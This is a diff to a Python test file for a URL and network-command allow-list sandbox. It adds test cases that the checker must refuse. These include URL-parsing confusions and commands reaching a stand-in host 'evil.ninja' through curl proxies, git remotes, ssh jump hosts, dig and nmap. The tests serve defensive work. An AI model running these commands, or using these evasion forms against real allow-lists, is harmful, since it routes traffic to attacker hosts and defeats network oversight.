@@ -49,6 +49,11 @@ ADDRESSES = {
     "sixth version in hexadecimal": ("http://[fe80::1]:80/", "http://[::ffff:7f00:1]:80/"),
     "with blanks around": (" https://evil.com ", " https://good.com "),
     "in a sentence": ("see https://evil.com, please", "see https://good.com, please"),
+    "user information behind a semicolon": ("https://good.com;x@evil.com/", "https://a.good.com;x@good.com/?x"),
+    "one slash and a second address": ("evil.com?x=https://good.com", "good.com?x=https://good.com"),
+    "address in a path": ("evil.com/https://good.com", "good.com/https://a.good.com"),
+    "second host in a sentence": ("see https://good.com, evil.com", "see https://good.com, a.good.com"),
+    "several lines": ("https://good.com\nhttps://evil.com", "https://good.com\nhttps://a.good.com"),
     "in brackets": ("[x](https://evil.com)", "[x](https://good.com)"),
 }  # fmt: skip
 
@@ -91,6 +96,25 @@ COMMANDS = {
     "variable": ("curl https://$HOST_OF_NOBODY/", "H=good.com; curl https://$H/"),
     "variable with another value": ("H=evil.com; curl https://$H/", "H=good.com curl https://good.com"),
     "output": ("curl $(cat address)", "curl good.com/$(cat name)"),
+    "zero": ("curl 0", "curl --retry 3 --retry-delay 5 good.com"),
+    "zero behind an option": ("curl -s 0", "curl -m 5 good.com"),
+    "zero for telnet": ("telnet -4 0 6379", "nc -lk 8080"),
+    "second address in the query": ("curl evil.com?x=https://good.com", "curl good.com?x=https://good.com"),
+    "number to connect to": ("curl --connect-to good.com:443:167772161:443 https://good.com", "curl https://good.com:443/a:b"),
+    "cluster with a file": ("curl -do evil.ninja", "curl -sSLo out.json https://good.com"),
+    "cluster with a proxy": ("curl -sxo evil.ninja", "curl -sx good.com:80 good.com"),
+    "attached proxy": ("curl -xevil.ninja:80 good.com", "curl -xgood.com:80 good.com"),
+    "proxy by variable": ("https_proxy=evil.ninja:80 curl good.com", "https_proxy=http://good.com:80 curl good.com"),
+    "git with an unusual ending": ("git clone git@evil.ninja:a/b", "git push origin v1.2:v1.2"),
+    "git without a user": ("git clone evil.ninja:a/b", "git show HEAD@{1}:x.py"),
+    "git behind an option": ("git -C x push evil.ninja:a main", "git -C x commit -m 'see a@b: c'"),
+    "git proxy": ("git -c http.proxy=evil.ninja:80 fetch", "git -c color.ui=false fetch"),
+    "ssh jump": ("ssh -J evil.ninja good.com", "ssh -J a.good.com good.com"),
+    "ssh attached jump": ("ssh -Jevil.ninja good.com", "ssh -Ja.good.com good.com"),
+    "ssh jump by option": ("ssh -oProxyJump=evil.ninja good.com", "ssh -oBatchMode=yes good.com"),
+    "ssh behind a cluster": ("ssh -vS good.com evil.ninja", "ssh -vS none good.com ls"),
+    "name server": ("dig @evil.ninja good.com", "dig @a.good.com good.com"),
+    "scan": ("nmap -sS evil.ninja", "nmap -sS -p 80 good.com"),
     "files are no hosts": ("wget evil.io", "cat main.py notes.md a.tar.gz v1.2.3 x.sh"),
 }  # fmt: skip
 
@@ -112,11 +136,41 @@ def test_what_programs_read_differently_is_refused(url: str) -> None:
     assert judge({"url": url}) is not None
 
 
+@pytest.mark.parametrize("key", ["url", "link"])
+@pytest.mark.parametrize(
+    "between", [*";,'\")}|<>` \t\n", ";\\", ";" + "x" * 600, ";" + "x" * 6000, "\n\n"], ids=lambda text: repr(text)[:8]
+)
+def test_nothing_behind_the_allowed_host_hides_where_it_leads(between: str, key: str) -> None:
+    assert judge({key: f"https://good.com{between}@evil.ninja/"}) is not None
+    assert judge({key: f" \x01https://good.com{between}x:y@evil.ninja"}) is not None
+
+
+@pytest.mark.parametrize(
+    "url", ["https://good.com\t.evil.ninja/", "https://good.com\nevil.ninja/a b", "a" * 41 + ".evil.ninja://good.com/", "0"]
+)
+def test_what_clients_join_or_guess_is_judged(url: str) -> None:
+    assert judge({"url": url}) is not None
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"u":"https://good.com","d":"@types/node"}',
+        "x = 'https://good.com'\n\n@decorator\ndef f(): pass",
+        "see <https://good.com> and @bob",
+        "https://good.com/x\nhello @bob",
+    ],
+)
+def test_text_around_an_allowed_address_passes(text: str) -> None:
+    assert judge({"content": text}) is None
+
+
 @pytest.mark.parametrize(
     "args",
     [
         {"a": ["x", "http://evil.com"]},
         {"a": {"b": {"c": "http://evil.com"}}},
+        {"code": "get('http://good.com;x@evil.com/')"},
         {"a": {"http://evil.com": 1}},
         {"url": 5},
         {"url": "?? x"},
@@ -162,6 +216,12 @@ def test_one_form(host: str, normal: str) -> None:
 def test_no_form(host: str) -> None:
     with pytest.raises(Ambiguous):
         normal_host(host)
+
+
+@pytest.mark.parametrize("pattern", [".evil.com", "a..evil.com", "*..evil.com", "https://evil.com", "*.evil.com/x", "evil.com:80"])
+def test_a_pattern_that_no_host_has_is_an_error(pattern: str) -> None:
+    with pytest.raises(EdictumConfigError, match="cannot be used"):
+        Sandbox(not_domains=[pattern])
 
 
 @pytest.mark.parametrize("bounds", [{"domains": ["a b"]}, {"not_domains": [""]}, {"within": ["a\0b"]}], ids=str)
